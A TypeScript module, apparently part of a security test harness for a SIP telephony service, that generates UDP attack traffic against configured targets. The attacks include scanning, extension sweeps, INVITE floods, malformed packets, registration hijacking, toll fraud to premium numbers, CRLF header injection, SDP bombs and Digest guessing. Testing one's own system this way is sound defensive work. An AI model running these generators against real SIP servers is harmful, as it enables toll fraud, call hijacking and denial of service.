// Attacks on the SIP port over UDP: scanners, sweeps, floods, taking a softphone's place, calling without right, and what a carrier that
// has turned bad can do (its address is known: 127.0.0.1).

import { randomBytes } from 'node:crypto';
import { createSocket, type Socket } from 'node:dgram';
import { type Attack, type RunningAttack, strangerAddress, type Targets } from './attack.ts';

interface Peer {
  host: string;
  port: number;
  socket: Socket;
}

const bind = (host: string): Promise<Peer> =>
  new Promise((resolve, reject) => {
    const socket = createSocket('udp4');
    socket.once('error', reject);
    socket.bind(0, host, () => resolve({ host, port: socket.address().port, socket }));
  });

const token = () => randomBytes(6).toString('hex');

export interface SipText {
  method: string;
  uri: string;
  from?: string;
  to?: string;
  agent?: string;
  headers?: string[];
  contact?: string;
  body?: string;
  callId?: string;
  cseq?: number;
}

export function sipText(peer: Pick<Peer, 'host' | 'port'>, text: SipText, transport = 'UDP'): string {
  const body = text.body ?? '';
  return [
    `${text.method} ${text.uri} SIP/2.0`,
    `Via: SIP/2.0/${transport} ${peer.host}:${peer.port};branch=z9hG4bK${token()};rport`,
    'Max-Forwards: 70',
    `From: ${text.from ?? `<sip:100@${peer.host}>;tag=${token()}`}`,
    `To: ${text.to ?? `<${text.uri}>`}`,
    `Call-ID: ${text.callId ?? token() + token()}`,
    `CSeq: ${text.cseq ?? 1} ${text.method}`,
    `Contact: ${text.contact ?? `<sip:x@${peer.host}:${peer.port}>`}`,
    `User-Agent: ${text.agent ?? 'Telephone 7.2'}`,
    ...(text.headers ?? []),
    ...(body ? ['Content-Type: application/sdp'] : []),
    `Content-Length: ${Buffer.byteLength(body)}`,
    '',
    body,
  ].join('\r\n');
}

export const plainSdp = (host: string): string =>
  `v=0\r\no=- 1 1 IN IP4 ${host}\r\ns=-\r\nc=IN IP4 ${host}\r\nt=0 0\r\nm=audio 40000 RTP/AVP 0\r\n`;

interface UdpAttack {
  addresses: number;
  /** The carrier's own address instead of strangers'. */
  asCarrier?: boolean;
  text(peer: Peer, count: number, targets: Targets): string | Buffer;
  /** Whether this answer is what the attack wanted. */
  wanted?(answer: string): boolean;
}

/** A final answer that lets somebody in. */
const isSuccess = (answer: string): boolean => /^SIP\/2\.0 2\d\d /.test(answer);

function udp({
  addresses,
  asCarrier,
  text,
  wanted = isSuccess,
}: UdpAttack): (targets: Targets) => Promise<RunningAttack> {
  return async (targets) => {
    const peers = await Promise.all(
      Array.from({ length: addresses }, (_, index) => bind(asCarrier ? '127.0.0.1' : strangerAddress(index))),
    );
    let [sent, answered, gotIn] = [0, 0, 0];
    for (const { socket } of peers)
      socket.on('message', (bytes) => {
        answered++;
        if (wanted(bytes.toString('latin1'))) gotIn++;
      });
    return {
      once() {
        const peer = peers[sent % peers.length]!;
        peer.socket.send(text(peer, sent, targets), targets.sip.port, targets.sip.host);
        sent++;
      },
      async stop() {
        await new Promise((resolve) => setTimeout(resolve, 500));
        for (const { socket } of peers) socket.close();
        return { sent, answered, gotIn };
      },
    };
  };
}

const premium = ['0990123456', '00819012345678', '+8821612345', '0570000123', '011882161234', '00390123456'];
const at = ({ sip }: Targets, user: string) => `sip:${user}@${sip.host}:${sip.port}`;

export const sipAttacks: Attack[] = [
  {
    name: 'scanner',
    sends: 'OPTIONS, REGISTER, INVITE of friendly-scanner, sipvicious …, 8 addresses',
    perSecond: 400,
    start: udp({
      addresses: 8,
      text: (peer, n, targets) =>
        sipText(peer, {
          method: ['OPTIONS', 'REGISTER', 'INVITE'][n % 3]!,
          uri: at(targets, String(100 + (n % 900))),
          agent: ['friendly-scanner', 'sipvicious', 'VaxSIPUserAgent/3.5', 'sipcli/v1.8', 'pplsip'][n % 5]!,
        }),
    }),
  },
  {
    name: 'sweep',
    sends: 'OPTIONS, REGISTER, INVITE over extensions 100–999 under a telephone’s name, 30 addresses',
    perSecond: 400,
    start: udp({
      addresses: 30,
      text: (peer, n, targets) =>
        sipText(peer, { method: ['OPTIONS', 'REGISTER', 'INVITE'][n % 3]!, uri: at(targets, String(100 + (n % 900))) }),
    }),
  },
  {
    name: 'sip-flood',
    sends: 'well-formed INVITE to a number of the company, 250 addresses',
    perSecond: 1500,
    start: udp({
      addresses: 250,
      text: (peer, _n, targets) =>
        sipText(peer, { method: 'INVITE', uri: at(targets, targets.number), body: plainSdp(peer.host) }),
    }),
  },
  {
    name: 'garbage',
    sends: 'random bytes, half messages, 65 kB datagrams, 50 addresses',
    perSecond: 1500,
    start: udp({
      addresses: 50,
      text: (peer, n, targets) =>
        n % 3 === 0
          ? randomBytes(20 + (n % 1200))
          : n % 3 === 1
            ? sipText(peer, { method: 'INVITE', uri: at(targets, targets.number) }).slice(0, 40 + (n % 200))
            : n % 30 === 2
              ? `INVITE sip:x SIP/2.0\r\n${'X: y\r\n'.repeat(10_000)}\r\n`
              : '\0'.repeat(n % 300),
    }),
  },
  {
    name: 'call-without-right',
    sends:
      'INVITE to persons, company and premium numbers, with From, To, Host, P-Asserted-Identity of inside, 100 addresses',
    perSecond: 300,
    start: udp({
      addresses: 100,
      text: (peer, n, targets) => {
        const to = [targets.agentId, targets.number, ...premium][n % (premium.length + 2)]!;
        const from = [
          `<sip:${targets.agentId}@engawa.invalid>;tag=${n}`,
          `<sip:${targets.number}@${targets.sip.host}>;tag=${n}`,
        ][n % 2]!;
        return sipText(peer, {
          method: 'INVITE',
          uri: n % 3 === 0 ? `sip:${to}@engawa.invalid` : at(targets, to),
          from,
          headers: [`P-Asserted-Identity: <sip:${targets.agentId}@engawa.invalid>`, 'Privacy: id'],
          body: plainSdp(peer.host),
        });
      },
    }),
  },
  {
    name: 'registration-hijack',
    sends: 'REGISTER of an agent’s address with a Contact of the attacker, 40 addresses and the carrier’s',
    perSecond: 200,
    start: async (targets) => {
      const text = (peer: Peer) =>
        sipText(peer, {
          method: 'REGISTER',
          uri: 'sip:engawa.invalid',
          from: `<sip:${targets.agentId}@engawa.invalid>;tag=${token()}`,
          to: `<sip:${targets.agentId}@engawa.invalid>`,
          headers: ['Expires: 3600'],
        });
      const [strangers, carrier] = [
        await udp({ addresses: 40, text })(targets),
        await udp({ addresses: 1, asCarrier: true, text })(targets),
      ];
      return together(strangers, carrier);
    },
  },
  {
    name: 'toll-fraud-sip',
    sends:
      'from the carrier’s address: INVITE to premium numbers, with Replaces, Referred-By, Route; REFER to them outside a call',
    perSecond: 50,
    start: udp({
      addresses: 4,
      asCarrier: true,
      text: (peer, n, targets) => {
        const number = premium[n % premium.length]!;
        const headers = [
          [`Replaces: ${token()};to-tag=1;from-tag=2`, 'Require: replaces'],
          [`Refer-To: <sip:${number}@${targets.sip.host}>`, `Referred-By: <sip:${targets.agentId}@engawa.invalid>`],
          ['Route: <sip:127.0.0.1;lr>', `Diversion: <sip:${targets.number}@x>`],
        ][n % 3]!;
        return sipText(peer, {
          method: n % 3 === 1 ? 'REFER' : 'INVITE',
          uri: at(targets, number),
          headers,
          body: n % 3 === 1 ? '' : plainSdp(peer.host),
        });
      },
    }),
  },
  {
    name: 'header-injection',
    sends: 'from the carrier’s address: CR, LF and NUL in display names, URIs and SDP, folded and bare',
    perSecond: 50,
    start: udp({
      addresses: 4,
      asCarrier: true,
      text: (peer, n, targets) => {
        const evil = [
          '\r\nX-Evil: 1',
          '\rX-Evil: 1',
          '\nX-Evil: 1',
          '\r\n\r\nINVITE sip:x SIP/2.0\r\n',
          '\0',
          '%0d%0aX-Evil: 1',
        ][n % 6]!;
        const broken = n % 2 === 0;
        return sipText(peer, {
          method: 'INVITE',
          uri: at(targets, broken ? `1234${evil}` : '0000000'),
          from: `"Bob${evil}" <sip:bob@x>;tag=${token()}`,
          body: plainSdp(peer.host).replace('s=-', `s=${evil}`),
        });
      },
    }),
  },
  {
    name: 'sdp-bomb',
    sends: 'from the carrier’s address: offers of thousands of m= lines, candidates, codecs, and one endless line',
    perSecond: 20,
    start: udp({
      addresses: 4,
      asCarrier: true,
      text: (peer, n, targets) => {
        const head = plainSdp(peer.host);
        const bomb = [
          'm=audio 9 RTP/AVP 0\r\n'.repeat(2500),
          `a=candidate:1 1 UDP 1 1.2.3.4 5 typ host\r\n`.repeat(1300),
          `a=rtpmap:96 x/8000\r\n`.repeat(2500),
          `a=group:BUNDLE ${'0 '.repeat(25_000)}\r\n`,
          `a=${'x'.repeat(60_000)}\r\n`,
        ][n % 5]!;
        return sipText(peer, { method: 'INVITE', uri: at(targets, '0000000'), body: head + bomb });
      },
    }),
  },
  {
    name: 'digest-guessing',
    scene: 'gateway',
    sends: 'INVITE with made-up Authorization for a trunk’s user, 10 addresses',
    perSecond: 200,
    start: udp({
      addresses: 10,
      text: (peer, n, targets) =>
        sipText(peer, {
          method: 'INVITE',
          uri: at(targets, targets.number),
          headers: [
            `Authorization: Digest username="gateway", realm="engawa.invalid", nonce="${token()}", uri="${at(targets, targets.number)}", response="${token()}${n}", algorithm=MD5`,
          ],
          body: plainSdp(peer.host),
        }),
    }),
  },
];

function together(...attacks: RunningAttack[]): RunningAttack {
  let turn = 0;
  return {
    once: () => attacks[turn++ % attacks.length]!.once(),
    async stop() {
      const outcomes = await Promise.all(attacks.map((attack) => attack.stop()));
      return outcomes.reduce((sum, one) => ({
        sent: sum.sent + one.sent,
        answered: sum.answered + one.answered,
        gotIn: sum.gotIn + one.gotIn,
      }));
    },
  };
}
